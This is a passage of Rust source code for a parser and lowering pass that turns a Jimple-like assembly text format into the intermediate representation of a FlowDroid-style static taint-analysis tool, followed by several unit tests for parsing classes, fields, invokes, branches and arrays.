    Local(String),
    Int(i64),
    Str(String),
    Null,
    Res(String, String),
}

#[derive(Debug, Clone)]
enum AstPlace {
    Local(String),
    Field(String, String),
    StaticField(String, String),
    ArrayElem(String, AstOperand),
}

#[derive(Debug, Clone)]
enum AstRhs {
    Operand(AstOperand),
    Read(AstPlace),
    New(String),
    NewArray(AstType, AstOperand),
    Bin(BinOp, AstOperand, AstOperand),
    Un(UnOp, AstOperand),
    Cast(AstType, AstOperand),
    InstanceOf(AstOperand, AstType),
}

#[derive(Debug, Clone)]
enum AstStmt {
    Let { name: String, ty: AstType, line: u32 },
    Assign { lhs: AstPlace, rhs: AstRhs, line: u32 },
    Invoke {
        result: Option<String>,
        kind: InvokeKind,
        base: Option<String>,
        sig: AstSig,
        args: Vec<AstOperand>,
        line: u32,
    },
    If { cond: Option<(CmpOp, AstOperand, AstOperand)>, target: String, line: u32 },
    Goto { target: String, line: u32 },
    LabelDecl { name: String },
    Return { value: Option<AstOperand>, line: u32 },
    Throw { value: AstOperand, line: u32 },
    Nop { line: u32 },
}

// ===================== Parser =====================

struct Parser<'t> {
    tokens: &'t [SpannedTok],
    pos: usize,
}

impl Parser<'_> {
    fn line(&self) -> u32 {
        self.tokens
            .get(self.pos.min(self.tokens.len().saturating_sub(1)))
            .map_or(0, |t| t.line)
    }

    fn err(&self, msg: impl Into<String>) -> ParseError {
        ParseError { message: msg.into(), line: self.line() }
    }

    fn peek(&self) -> Option<&Tok> {
        self.tokens.get(self.pos).map(|t| &t.tok)
    }

    fn peek2(&self) -> Option<&Tok> {
        self.tokens.get(self.pos + 1).map(|t| &t.tok)
    }

    fn bump(&mut self) -> Option<Tok> {
        let t = self.tokens.get(self.pos).map(|t| t.tok.clone());
        self.pos += 1;
        t
    }

    fn eat(&mut self, t: &Tok) -> bool {
        if self.peek() == Some(t) {
            self.pos += 1;
            true
        } else {
            false
        }
    }

    fn expect(&mut self, t: &Tok, what: &str) -> Result<(), ParseError> {
        if self.eat(t) {
            Ok(())
        } else {
            Err(self.err(format!("expected {what}, found {:?}", self.peek())))
        }
    }

    fn ident(&mut self, what: &str) -> Result<String, ParseError> {
        match self.peek() {
            Some(Tok::Ident(s)) => {
                let s = s.clone();
                self.pos += 1;
                Ok(s)
            }
            other => Err(self.err(format!("expected {what}, found {other:?}"))),
        }
    }

    fn at_kw(&self, kw: &str) -> bool {
        matches!(self.peek(), Some(Tok::Ident(s)) if s == kw)
    }

    fn eat_kw(&mut self, kw: &str) -> bool {
        if self.at_kw(kw) {
            self.pos += 1;
            true
        } else {
            false
        }
    }

    fn expect_kw(&mut self, kw: &str) -> Result<(), ParseError> {
        if self.eat_kw(kw) {
            Ok(())
        } else {
            Err(self.err(format!("expected `{kw}`, found {:?}", self.peek())))
        }
    }

    /// Dotted name: `a.b.c`.
    fn dotted(&mut self, what: &str) -> Result<String, ParseError> {
        let mut s = self.ident(what)?;
        while self.peek() == Some(&Tok::Dot) {
            // Only consume the dot if an identifier follows.
            if matches!(self.peek2(), Some(Tok::Ident(_))) {
                self.pos += 1;
                s.push('.');
                s.push_str(&self.ident("name segment")?);
            } else {
                break;
            }
        }
        Ok(s)
    }

    fn parse_type(&mut self) -> Result<AstType, ParseError> {
        let head = match self.peek() {
            Some(Tok::Ident(s)) => s.clone(),
            other => return Err(self.err(format!("expected type, found {other:?}"))),
        };
        let base = match head.as_str() {
            "void" => AstType::Void,
            "boolean" => AstType::Boolean,
            "byte" => AstType::Byte,
            "char" => AstType::Char,
            "short" => AstType::Short,
            "int" => AstType::Int,
            "long" => AstType::Long,
            "float" => AstType::Float,
            "double" => AstType::Double,
            _ => AstType::Named(self.dotted("type name")?),
        };
        if !matches!(base, AstType::Named(_)) {
            self.pos += 1;
        }
        let mut t = base;
        while self.peek() == Some(&Tok::LBracket) && self.peek2() == Some(&Tok::RBracket) {
            self.pos += 2;
            t = AstType::Array(Box::new(t));
        }
        Ok(t)
    }

    // (array suffixes handled above)

    fn parse_file(mut self) -> Result<AstFile, ParseError> {
        let mut classes = Vec::new();
        while self.peek().is_some() {
            classes.push(self.parse_class()?);
        }
        Ok(AstFile { classes })
    }

    fn parse_class(&mut self) -> Result<AstClass, ParseError> {
        let is_abstract = self.eat_kw("abstract");
        let is_interface = if self.eat_kw("interface") {
            true
        } else {
            self.expect_kw("class")?;
            false
        };
        let name = self.dotted("class name")?;
        let mut extends = None;
        let mut implements = Vec::new();
        if self.eat_kw("extends") {
            extends = Some(self.dotted("superclass name")?);
            // Interfaces may extend several.
            while is_interface && self.eat(&Tok::Comma) {
                implements.push(self.dotted("interface name")?);
            }
        }
        if self.eat_kw("implements") {
            implements.push(self.dotted("interface name")?);
            while self.eat(&Tok::Comma) {
                implements.push(self.dotted("interface name")?);
            }
        }
        self.expect(&Tok::LBrace, "`{`")?;
        let mut fields = Vec::new();
        let mut methods = Vec::new();
        while !self.eat(&Tok::RBrace) {
            if self.peek().is_none() {
                return Err(self.err("unterminated class body"));
            }
            // Member modifiers may appear in any order.
            let (mut is_static, mut is_native, mut is_abs) = (false, false, false);
            loop {
                if self.eat_kw("static") {
                    is_static = true;
                } else if self.eat_kw("native") {
                    is_native = true;
                } else if self.eat_kw("abstract") {
                    is_abs = true;
                } else {
                    break;
                }
            }
            if self.eat_kw("field") {
                if is_native || is_abs {
                    return Err(self.err("fields cannot be native or abstract"));
                }
                let fname = self.ident("field name")?;
                self.expect(&Tok::Colon, "`:`")?;
                let ty = self.parse_type()?;
                fields.push(AstField { name: fname, ty, is_static });
            } else if self.eat_kw("method") {
                methods.push(self.parse_method(is_static, is_native, is_abs || is_interface)?);
            } else {
                return Err(self.err(format!(
                    "expected `field` or `method`, found {:?}",
                    self.peek()
                )));
            }
        }
        Ok(AstClass { name, is_interface, is_abstract, extends, implements, fields, methods })
    }

    fn parse_method(
        &mut self,
        is_static: bool,
        is_native: bool,
        is_abstract: bool,
    ) -> Result<AstMethod, ParseError> {
        let name = self.method_name()?;
        self.expect(&Tok::LParen, "`(`")?;
        let mut params = Vec::new();
        if !self.eat(&Tok::RParen) {
            loop {
                let pname = self.ident("parameter name")?;
                self.expect(&Tok::Colon, "`:`")?;
                let ty = self.parse_type()?;
                params.push((pname, ty));
                if self.eat(&Tok::RParen) {
                    break;
                }
                self.expect(&Tok::Comma, "`,`")?;
            }
        }
        self.expect(&Tok::Arrow, "`->`")?;
        let ret = self.parse_type()?;
        let body = if is_native || is_abstract {
            None
        } else {
            self.expect(&Tok::LBrace, "`{`")?;
            let mut stmts = Vec::new();
            while !self.eat(&Tok::RBrace) {
                if self.peek().is_none() {
                    return Err(self.err("unterminated method body"));
                }
                stmts.push(self.parse_stmt()?);
            }
            Some(stmts)
        };
        Ok(AstMethod { name, params, ret, is_static, is_native, is_abstract, body })
    }

    /// A method name, possibly `<init>` or `<clinit>`.
    fn method_name(&mut self) -> Result<String, ParseError> {
        if self.eat(&Tok::Lt) {
            let n = self.ident("constructor name")?;
            self.expect(&Tok::Gt, "`>`")?;
            Ok(format!("<{n}>"))
        } else {
            self.ident("method name")
        }
    }

    fn parse_operand(&mut self) -> Result<AstOperand, ParseError> {
        match self.peek().cloned() {
            Some(Tok::Ident(s)) if s == "null" => {
                self.pos += 1;
                Ok(AstOperand::Null)
            }
            Some(Tok::Ident(s)) => {
                self.pos += 1;
                Ok(AstOperand::Local(s))
            }
            Some(Tok::Int(v)) => {
                self.pos += 1;
                Ok(AstOperand::Int(v))
            }
            Some(Tok::Minus) => {
                self.pos += 1;
                match self.bump() {
                    Some(Tok::Int(v)) => Ok(AstOperand::Int(-v)),
                    other => Err(self.err(format!("expected integer after `-`, found {other:?}"))),
                }
            }
            Some(Tok::Str(s)) => {
                self.pos += 1;
                Ok(AstOperand::Str(s))
            }
            Some(Tok::Res(k, n)) => {
                self.pos += 1;
                Ok(AstOperand::Res(k, n))
            }
            other => Err(self.err(format!("expected operand, found {other:?}"))),
        }
    }

    /// `<Class: RetType name(T1,T2)>`
    fn parse_sig(&mut self) -> Result<AstSig, ParseError> {
        self.expect(&Tok::Lt, "`<` starting a signature")?;
        let class = self.dotted("class name")?;
        self.expect(&Tok::Colon, "`:`")?;
        let ret = self.parse_type()?;
        let name = self.method_name()?;
        self.expect(&Tok::LParen, "`(`")?;
        let mut params = Vec::new();
        if !self.eat(&Tok::RParen) {
            loop {
                params.push(self.parse_type()?);
                if self.eat(&Tok::RParen) {
                    break;
                }
                self.expect(&Tok::Comma, "`,`")?;
            }
        }
        self.expect(&Tok::Gt, "`>` ending the signature")?;
        Ok(AstSig { class, ret, name, params })
    }

    fn parse_args(&mut self) -> Result<Vec<AstOperand>, ParseError> {
        self.expect(&Tok::LParen, "`(`")?;
        let mut args = Vec::new();
        if !self.eat(&Tok::RParen) {
            loop {
                args.push(self.parse_operand()?);
                if self.eat(&Tok::RParen) {
                    break;
                }
                self.expect(&Tok::Comma, "`,`")?;
            }
        }
        Ok(args)
    }

    fn invoke_kind(kw: &str) -> Option<InvokeKind> {
        match kw {
            "virtualinvoke" => Some(InvokeKind::Virtual),
            "interfaceinvoke" => Some(InvokeKind::Interface),
            "specialinvoke" => Some(InvokeKind::Special),
            "staticinvoke" => Some(InvokeKind::Static),
            _ => None,
        }
    }

    /// Parses `kindinvoke [base.]<sig>(args)`.
    fn parse_invoke(
        &mut self,
        result: Option<String>,
        kind: InvokeKind,
        line: u32,
    ) -> Result<AstStmt, ParseError> {
        let base = if kind == InvokeKind::Static {
            None
        } else {
            let b = self.ident("receiver local")?;
            self.expect(&Tok::Dot, "`.`")?;
            Some(b)
        };
        let sig = self.parse_sig()?;
        let args = self.parse_args()?;
        if sig.params.len() != args.len() {
            return Err(self.err(format!(
                "signature has {} parameters but {} arguments given",
                sig.params.len(),
                args.len()
            )));
        }
        Ok(AstStmt::Invoke { result, kind, base, sig, args, line })
    }

    fn cmp_of(t: &Tok) -> Option<CmpOp> {
        match t {
            Tok::EqEq => Some(CmpOp::Eq),
            Tok::Ne => Some(CmpOp::Ne),
            Tok::Lt => Some(CmpOp::Lt),
            Tok::Le => Some(CmpOp::Le),
            Tok::Gt => Some(CmpOp::Gt),
            Tok::Ge => Some(CmpOp::Ge),
            _ => None,
        }
    }

    fn binop_of(t: &Tok) -> Option<BinOp> {
        match t {
            Tok::Plus => Some(BinOp::Add),
            Tok::Minus => Some(BinOp::Sub),
            Tok::Star => Some(BinOp::Mul),
            Tok::Slash => Some(BinOp::Div),
            Tok::Percent => Some(BinOp::Rem),
            Tok::Amp => Some(BinOp::And),
            Tok::Pipe => Some(BinOp::Or),
            Tok::Caret => Some(BinOp::Xor),
            Tok::Shl => Some(BinOp::Shl),
            Tok::Shr => Some(BinOp::Shr),
            _ => None,
        }
    }

    fn parse_stmt(&mut self) -> Result<AstStmt, ParseError> {
        let line = self.line();
        // Keyword statements.
        if self.eat_kw("let") {
            let name = self.ident("local name")?;
            self.expect(&Tok::Colon, "`:`")?;
            let ty = self.parse_type()?;
            return Ok(AstStmt::Let { name, ty, line });
        }
        if self.eat_kw("label") {
            let name = self.ident("label name")?;
            self.expect(&Tok::Colon, "`:`")?;
            let _ = line;
            return Ok(AstStmt::LabelDecl { name });
        }
        if self.eat_kw("goto") {
            let target = self.ident("label name")?;
            return Ok(AstStmt::Goto { target, line });
        }
        if self.eat_kw("if") {
            if self.eat_kw("opaque") {
                self.expect_kw("goto")?;
                let target = self.ident("label name")?;
                return Ok(AstStmt::If { cond: None, target, line });
            }
            let a = self.parse_operand()?;
            let op = match self.bump() {
                Some(t) => Self::cmp_of(&t)
                    .ok_or_else(|| self.err(format!("expected comparison operator, found {t:?}")))?,
                None => return Err(self.err("unexpected end of input in `if`")),
            };
            let b = self.parse_operand()?;
            self.expect_kw("goto")?;
            let target = self.ident("label name")?;
            return Ok(AstStmt::If { cond: Some((op, a, b)), target, line });
        }
        if self.eat_kw("return") {
            // A value follows unless the next token closes the body or
            // starts another statement... `return` is always last on its
            // logical line; we detect a value by operand-start tokens,
            // except identifiers that begin a new statement cannot be
            // distinguished — so `return` with a value is required to be
            // written as `return x` and void returns as plain `return`
            // followed by a non-operand token or statement keyword.
            let value = match self.peek() {
                Some(Tok::Int(_) | Tok::Str(_) | Tok::Res(..) | Tok::Minus) => {
                    Some(self.parse_operand()?)
                }
                Some(Tok::Ident(s)) if !is_stmt_keyword(s) => Some(self.parse_operand()?),
                _ => None,
            };
            return Ok(AstStmt::Return { value, line });
        }
        if self.eat_kw("throw") {
            let value = self.parse_operand()?;
            return Ok(AstStmt::Throw { value, line });
        }
        if self.eat_kw("nop") {
            return Ok(AstStmt::Nop { line });
        }
        // Standalone invokes.
        if let Some(Tok::Ident(kw)) = self.peek() {
            if let Some(kind) = Self::invoke_kind(kw) {
                self.pos += 1;
                return self.parse_invoke(None, kind, line);
            }
        }
        // `static C.f = rhs` (static field store).
        if self.eat_kw("static") {
            let dotted = self.dotted("static field reference")?;
            let (class, field) = split_field_ref(&dotted)
                .ok_or_else(|| self.err("static field reference needs `Class.field`"))?;
            self.expect(&Tok::Assign, "`=`")?;
            let rhs = self.parse_rhs()?;
            return Ok(AstStmt::Assign {
                lhs: AstPlace::StaticField(class, field),
                rhs,
                line,
            });
        }
        // Assignments starting with a local.
        let name = self.ident("statement")?;
        let lhs = if self.eat(&Tok::Dot) {
            let field = self.ident("field name")?;
            AstPlace::Field(name, field)
        } else if self.eat(&Tok::LBracket) {
            let idx = self.parse_operand()?;
            self.expect(&Tok::RBracket, "`]`")?;
            AstPlace::ArrayElem(name, idx)
        } else {
            AstPlace::Local(name)
        };
        self.expect(&Tok::Assign, "`=`")?;
        // Invoke with result?
        if let Some(Tok::Ident(kw)) = self.peek() {
            if let Some(kind) = Self::invoke_kind(kw) {
                let result = match &lhs {
                    AstPlace::Local(l) => l.clone(),
                    _ => return Err(self.err("invoke results must be assigned to a local")),
                };
                self.pos += 1;
                return self.parse_invoke(Some(result), kind, line);
            }
        }
        let rhs = self.parse_rhs()?;
        Ok(AstStmt::Assign { lhs, rhs, line })
    }

    fn parse_rhs(&mut self) -> Result<AstRhs, ParseError> {
        // Cast: `(T) x`.
        if self.peek() == Some(&Tok::LParen) {
            self.pos += 1;
            let ty = self.parse_type()?;
            self.expect(&Tok::RParen, "`)`")?;
            let v = self.parse_operand()?;
            return Ok(AstRhs::Cast(ty, v));
        }
        if self.eat_kw("new") {
            let class = self.dotted("class name")?;
            return Ok(AstRhs::New(class));
        }
        if self.eat_kw("newarray") {
            let ty = self.parse_type()?;
            self.expect(&Tok::LBracket, "`[`")?;
            let n = self.parse_operand()?;
            self.expect(&Tok::RBracket, "`]`")?;
            return Ok(AstRhs::NewArray(ty, n));
        }
        if self.eat_kw("neg") {
            return Ok(AstRhs::Un(UnOp::Neg, self.parse_operand()?));
        }
        if self.eat_kw("lengthof") {
            return Ok(AstRhs::Un(UnOp::Len, self.parse_operand()?));
        }
        if self.eat_kw("static") {
            let dotted = self.dotted("static field reference")?;
            let (class, field) = split_field_ref(&dotted)
                .ok_or_else(|| self.err("static field reference needs `Class.field`"))?;
            return Ok(AstRhs::Read(AstPlace::StaticField(class, field)));
        }
        // Operand-led: move, field read, array read, binop, instanceof.
        let first = self.parse_operand()?;
        if let AstOperand::Local(base) = &first {
            if self.eat(&Tok::Dot) {
                let field = self.ident("field name")?;
                return Ok(AstRhs::Read(AstPlace::Field(base.clone(), field)));
            }
            if self.peek() == Some(&Tok::LBracket) && self.peek2() != Some(&Tok::RBracket) {
                self.pos += 1;
                let idx = self.parse_operand()?;
                self.expect(&Tok::RBracket, "`]`")?;
                return Ok(AstRhs::Read(AstPlace::ArrayElem(base.clone(), idx)));
            }
        }
        if self.eat_kw("instanceof") {
            let ty = self.parse_type()?;
            return Ok(AstRhs::InstanceOf(first, ty));
        }
        if let Some(t) = self.peek() {
            if let Some(op) = Self::binop_of(t) {
                self.pos += 1;
                let second = self.parse_operand()?;
                return Ok(AstRhs::Bin(op, first, second));
            }
            if t == &Tok::Ident("cmp".to_owned()) {
                self.pos += 1;
                let second = self.parse_operand()?;
                return Ok(AstRhs::Bin(BinOp::Cmp, first, second));
            }
        }
        Ok(AstRhs::Operand(first))
    }
}

fn is_stmt_keyword(s: &str) -> bool {
    matches!(
        s,
        "let"
            | "label"
            | "goto"
            | "if"
            | "return"
            | "throw"
            | "nop"
            | "static"
            | "virtualinvoke"
            | "interfaceinvoke"
            | "specialinvoke"
            | "staticinvoke"
    )
}

fn split_field_ref(dotted: &str) -> Option<(String, String)> {
    let idx = dotted.rfind('.')?;
    Some((dotted[..idx].to_owned(), dotted[idx + 1..].to_owned()))
}

// ===================== Lowering =====================

fn lower(
    program: &mut Program,
    resources: &ResourceTable,
    ast: &AstFile,
) -> Result<Vec<ClassId>, ParseError> {
    // Pass 1: declare classes, fields and method signatures.
    let mut class_ids = Vec::new();
    for c in &ast.classes {
        let id = if c.is_interface {
            let extends: Vec<&str> = c.implements.iter().map(String::as_str).collect();
            let mut ext = extends;
            if let Some(e) = &c.extends {
                ext.insert(0, e.as_str());
            }
            program.declare_interface(&c.name, &ext)
        } else {
            let extends = c.extends.as_deref().or(Some("java.lang.Object"));
            let impls: Vec<&str> = c.implements.iter().map(String::as_str).collect();
            program.declare_class(&c.name, extends, &impls)
        };
        if c.is_abstract {
            program.set_abstract(id, true);
        }
        class_ids.push(id);
    }
    let mut method_ids = Vec::new();
    for (c, &cid) in ast.classes.iter().zip(&class_ids) {
        for f in &c.fields {
            let ty = lower_type(program, &f.ty);
            program.declare_field(cid, &f.name, ty, f.is_static);
        }
        let mut per_class = Vec::new();
        for m in &c.methods {
            let params: Vec<Type> = m.params.iter().map(|(_, t)| lower_type(program, t)).collect();
            let ret = lower_type(program, &m.ret);
            let mid = program.declare_method(cid, &m.name, params, ret, m.is_static);
            if m.is_native {
                program.set_native(mid, true);
            }
            if m.is_abstract {
                program.set_method_abstract(mid, true);
            }
            per_class.push(mid);
        }
        method_ids.push(per_class);
    }
    // Pass 2: lower bodies.
    for (ci, c) in ast.classes.iter().enumerate() {
        for (mi, m) in c.methods.iter().enumerate() {
            let Some(body) = &m.body else { continue };
            let mid = method_ids[ci][mi];
            lower_body(program, resources, mid, m, body)?;
        }
    }
    Ok(class_ids)
}

fn lower_type(program: &mut Program, t: &AstType) -> Type {
    match t {
        AstType::Void => Type::Void,
        AstType::Boolean => Type::Boolean,
        AstType::Byte => Type::Byte,
        AstType::Char => Type::Char,
        AstType::Short => Type::Short,
        AstType::Int => Type::Int,
        AstType::Long => Type::Long,
        AstType::Float => Type::Float,
        AstType::Double => Type::Double,
        AstType::Named(n) => program.ref_type(n),
        AstType::Array(e) => lower_type(program, e).array_of(),
    }
}

struct BodyCx<'a> {
    locals: FxHashMap<String, (Local, Type)>,
    labels: FxHashMap<String, Label>,
    bound_labels: FxHashSet<String>,
    resources: &'a ResourceTable,
}

impl BodyCx<'_> {
    fn local(&self, name: &str, line: u32) -> Result<(Local, Type), ParseError> {
        self.locals
            .get(name)
            .cloned()
            .ok_or_else(|| ParseError { message: format!("unknown local `{name}`"), line })
    }

    fn label(&mut self, b: &mut MethodBuilder<'_>, name: &str) -> Label {
        if let Some(&l) = self.labels.get(name) {
            l
        } else {
            let l = b.fresh_label();
            self.labels.insert(name.to_owned(), l);
            l
        }
    }

    fn operand(&self, program: &mut Program, o: &AstOperand, line: u32) -> Result<Operand, ParseError> {
        Ok(match o {
            AstOperand::Local(n) => Operand::Local(self.local(n, line)?.0),
            AstOperand::Int(v) => Operand::Const(Constant::Int(*v)),
            AstOperand::Str(s) => Operand::Const(Constant::Str(program.intern(s))),
            AstOperand::Null => Operand::Const(Constant::Null),
            AstOperand::Res(kind, name) => {
                let sym = format!("@{kind}/{name}");
                let id = self.resources.resolve(&sym).ok_or_else(|| ParseError {
                    message: format!("unresolved resource reference `{sym}`"),
                    line,
                })?;
                Operand::Const(Constant::Int(id))
            }
        })
    }
}

/// Resolves `base.field` against the static type of `base`, declaring
/// the field on phantom classes when necessary (framework stubs).
fn resolve_instance_field(
    program: &mut Program,
    base_ty: &Type,
    field: &str,
    line: u32,
) -> Result<flowdroid_ir::FieldId, ParseError> {
    let Some(class) = base_ty.as_class() else {
        return Err(ParseError {
            message: format!("field access `.{field}` on non-class type"),
            line,
        });
    };
    let sym = program.intern(field);
    if let Some(f) = program.resolve_field(class, sym) {
        return Ok(f);
    }
    if !program.class(class).is_declared() {
        let obj = program.ref_type("java.lang.Object");
        return Ok(program.declare_field(class, field, obj, false));
    }
    Err(ParseError {
        message: format!(
            "unknown field `{}` on class {}",
            field,
            program.class_name(class)
        ),
        line,
    })
}

fn resolve_static_field(
    program: &mut Program,
    class: &str,
    field: &str,
    line: u32,
) -> Result<flowdroid_ir::FieldId, ParseError> {
    let cid = program.class_id(class);
    let sym = program.intern(field);
    if let Some(f) = program.resolve_field(cid, sym) {
        return Ok(f);
    }
    if !program.class(cid).is_declared() {
        let obj = program.ref_type("java.lang.Object");
        return Ok(program.declare_field(cid, field, obj, true));
    }
    Err(ParseError {
        message: format!("unknown static field `{field}` on class {class}"),
        line,
    })
}

fn lower_place(
    b: &mut MethodBuilder<'_>,
    cx: &BodyCx<'_>,
    p: &AstPlace,
    line: u32,
) -> Result<Place, ParseError> {
    Ok(match p {
        AstPlace::Local(n) => Place::Local(cx.local(n, line)?.0),
        AstPlace::Field(base, field) => {
            let (l, ty) = cx.local(base, line)?;
            let f = resolve_instance_field(b.program(), &ty, field, line)?;
            Place::InstanceField(l, f)
        }
        AstPlace::StaticField(class, field) => {
            let f = resolve_static_field(b.program(), class, field, line)?;
            Place::StaticField(f)
        }
        AstPlace::ArrayElem(base, idx) => {
            let (l, _) = cx.local(base, line)?;
            let i = cx.operand(b.program(), idx, line)?;
            Place::ArrayElem(l, i)
        }
    })
}

fn lower_body(
    program: &mut Program,
    resources: &ResourceTable,
    mid: flowdroid_ir::MethodId,
    m: &AstMethod,
    stmts: &[AstStmt],
) -> Result<(), ParseError> {
    let mut b = MethodBuilder::for_method(program, mid);
    let mut cx = BodyCx {
        locals: FxHashMap::default(),
        labels: FxHashMap::default(),
        bound_labels: FxHashSet::default(),
        resources,
    };
    // Pre-register `this` and parameters.
    {
        let method = b.program().method(mid);
        let is_static = method.is_static();
        let class = method.class();
        if !is_static {
            cx.locals.insert("this".to_owned(), (Local(0), Type::Ref(class)));
        }
    }
    for (i, (pname, pty)) in m.params.iter().enumerate() {
        let ty = lower_type(b.program(), pty);
        let l = b.param(i);
        b.rename_local(l, pname);
        cx.locals.insert(pname.clone(), (l, ty));
    }
    // Pre-scan `let` declarations so locals can be referenced before
    // their textual declaration (labels too).
    for s in stmts {
        if let AstStmt::Let { name, ty, line } = s {
            if cx.locals.contains_key(name) {
                return Err(ParseError {
                    message: format!("local `{name}` declared twice"),
                    line: *line,
                });
            }
            let ty = lower_type(b.program(), ty);
            let l = b.local(name, ty.clone());
            cx.locals.insert(name.clone(), (l, ty));
        }
    }
    for s in stmts {
        match s {
            AstStmt::Let { .. } => {}
            AstStmt::LabelDecl { name } => {
                if !cx.bound_labels.insert(name.clone()) {
                    return Err(ParseError {
                        message: format!("label `{name}` declared twice"),
                        line: 0,
                    });
                }
                let l = cx.label(&mut b, name);
                b.bind(l);
            }
            AstStmt::Goto { target, line } => {
                b.line(*line);
                let l = cx.label(&mut b, target);
                b.goto(l);
            }
            AstStmt::If { cond, target, line } => {
                b.line(*line);
                let l = cx.label(&mut b, target);
                match cond {
                    None => {
                        b.if_opaque(l);
                    }
                    Some((op, x, y)) => {
                        let x = cx.operand(b.program(), x, *line)?;
                        let y = cx.operand(b.program(), y, *line)?;
                        b.if_cmp(*op, x, y, l);
                    }
                }
            }
            AstStmt::Return { value, line } => {
                b.line(*line);
                let v = match value {
                    Some(o) => Some(cx.operand(b.program(), o, *line)?),
                    None => None,
                };
                b.ret(v);
            }
            AstStmt::Throw { value, line } => {
                b.line(*line);
                let v = cx.operand(b.program(), value, *line)?;
                b.throw(v);
            }
            AstStmt::Nop { line } => {
                b.line(*line);
                b.nop();
            }
            AstStmt::Assign { lhs, rhs, line } => {
                b.line(*line);
                let rv = match rhs {
                    AstRhs::Operand(o) => match o {
                        AstOperand::Local(n) => {
                            Rvalue::Read(Place::Local(cx.local(n, *line)?.0))
                        }
                        other => {
                            let op = cx.operand(b.program(), other, *line)?;
                            match op {
                                Operand::Const(c) => Rvalue::Const(c),
                                Operand::Local(l) => Rvalue::Read(Place::Local(l)),
                            }
                        }
                    },
                    AstRhs::Read(p) => Rvalue::Read(lower_place(&mut b, &cx, p, *line)?),
                    AstRhs::New(cname) => {
                        let cid = b.program().class_id(cname);
                        Rvalue::New(cid)
                    }
                    AstRhs::NewArray(t, n) => {
                        let ty = lower_type(b.program(), t);
                        let n = cx.operand(b.program(), n, *line)?;
                        Rvalue::NewArray(ty, n)
                    }
                    AstRhs::Bin(op, x, y) => {
                        let x = cx.operand(b.program(), x, *line)?;
                        let y = cx.operand(b.program(), y, *line)?;
                        Rvalue::BinOp(*op, x, y)
                    }
                    AstRhs::Un(op, x) => {
                        let x = cx.operand(b.program(), x, *line)?;
                        Rvalue::UnOp(*op, x)
                    }
                    AstRhs::Cast(t, x) => {
                        let ty = lower_type(b.program(), t);
                        let x = cx.operand(b.program(), x, *line)?;
                        Rvalue::Cast(ty, x)
                    }
                    AstRhs::InstanceOf(x, t) => {
                        let ty = lower_type(b.program(), t);
                        let x = cx.operand(b.program(), x, *line)?;
                        Rvalue::InstanceOf(x, ty)
                    }
                };
                let place = lower_place(&mut b, &cx, lhs, *line)?;
                b.assign(place, rv);
            }
            AstStmt::Invoke { result, kind, base, sig, args, line } => {
                b.line(*line);
                let result = match result {
                    Some(r) => Some(cx.local(r, *line)?.0),
                    None => None,
                };
                let base = match base {
                    Some(bl) => Some(cx.local(bl, *line)?.0),
                    None => None,
                };
                let params: Vec<Type> =
                    sig.params.iter().map(|t| lower_type(b.program(), t)).collect();
                let ret = lower_type(b.program(), &sig.ret);
                let mut ops = Vec::with_capacity(args.len());
                for a in args {
                    ops.push(cx.operand(b.program(), a, *line)?);
                }
                let call =
                    b.invoke_expr(*kind, base, &sig.class, &sig.name, params, ret, ops);
                b.push_invoke(result, call);
            }
        }
    }
    // Every referenced label must have been declared; the builder would
    // otherwise panic on the unbound label.
    for name in cx.labels.keys() {
        if !cx.bound_labels.contains(name) {
            return Err(ParseError {
                message: format!("label `{name}` is never declared"),
                line: 0,
            });
        }
    }
    // Termination checks the builder would otherwise panic on: a label
    // at the very end needs a statement to bind to, and non-void
    // methods must not fall off the end.
    let last_real = stmts.iter().rev().find(|s| !matches!(s, AstStmt::Let { .. }));
    let ends_with_label = matches!(last_real, Some(AstStmt::LabelDecl { .. }));
    if ends_with_label {
        b.nop();
    }
    let terminated = !ends_with_label
        && matches!(
            last_real,
            Some(AstStmt::Return { .. } | AstStmt::Throw { .. } | AstStmt::Goto { .. })
        );
    let is_void = b.program().method(mid).subsig().ret == Type::Void;
    if !terminated && !is_void {
        return Err(ParseError {
            message: "non-void method may fall off the end of its body".to_owned(),
            line: 0,
        });
    }
    b.finish();
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_ir::ProgramPrinter;

    fn parse_ok(src: &str) -> Program {
        let mut p = Program::new();
        let rt = ResourceTable::new();
        parse_jasm(&mut p, &rt, src).unwrap_or_else(|e| panic!("{e}\nsource:\n{src}"));
        p
    }

    #[test]
    fn parses_minimal_class() {
        let p = parse_ok(
            "class A {\n  method run() -> void {\n    return\n  }\n}",
        );
        let a = p.find_class("A").unwrap();
        assert!(p.class(a).is_declared());
        let run = p.find_method("A", "run").unwrap();
        assert_eq!(p.method(run).body().unwrap().len(), 1);
    }

    #[test]
    fn parses_fields_and_statics() {
        let p = parse_ok(
            r#"
class B extends java.lang.Object {
  field name: java.lang.String
  static field count: int
  method set(n: java.lang.String) -> void {
    this.name = n
    static B.count = 3
    let c: int
    c = static B.count
    return
  }
}
"#,
        );
        let m = p.find_method("B", "set").unwrap();
        let text = ProgramPrinter::new(&p).method_to_string(m);
        assert!(text.contains("this.name = n"), "{text}");
        assert!(text.contains("B.count = 3"), "{text}");
        assert!(text.contains("c = B.count"), "{text}");
    }

    #[test]
    fn parses_invokes_and_branches() {
        let p = parse_ok(
            r#"
class C {
  method go(x: java.lang.String) -> java.lang.String {
    let y: java.lang.String
    y = staticinvoke <Env: java.lang.String source()>()
    if x == null goto out
    virtualinvoke y.<java.lang.String: void notify()>()
    goto out
  label out:
    return y
  }
}
"#,
        );
        let m = p.find_method("C", "go").unwrap();
        let body = p.method(m).body().unwrap();
        // y = source(); if; notify; goto; return
        assert_eq!(body.len(), 5);
        assert!(body.stmt(0).is_call());
        assert_eq!(body.cfg().succs(1), &[2, 4]);
    }

    #[test]
    fn parses_interface_and_abstract() {
        let p = parse_ok(
            r#"
interface I {
  method onEvent(d: java.lang.String) -> void
}
abstract class D implements I {
  abstract method helper() -> int
}
"#,
        );
        let i = p.find_class("I").unwrap();
        assert!(p.class(i).is_interface());
        let d = p.find_class("D").unwrap();
        assert!(p.class(d).is_abstract());
        assert!(p.is_subtype_of(d, i));
        let on_event = p.find_method("I", "onEvent").unwrap();
        assert!(!p.method(on_event).has_body());
    }

    #[test]
    fn parses_arrays_ops_and_casts() {
        let p = parse_ok(
            r#"
class E {
  method f(n: int) -> int {
    let a: int[]
    a = newarray int[n]
    a[0] = n
    let x: int
    x = a[0]
    x = x + 1
    x = neg x
    x = lengthof a
    let o: java.lang.Object
    let s: java.lang.String
    o = null
    s = (java.lang.String) o
    let t: boolean
    t = o instanceof java.lang.String
    return x
  }
}
"#,
        );
        let m = p.find_method("E", "f").unwrap();
        assert!(p.method(m).has_body());
    }

    #[test]
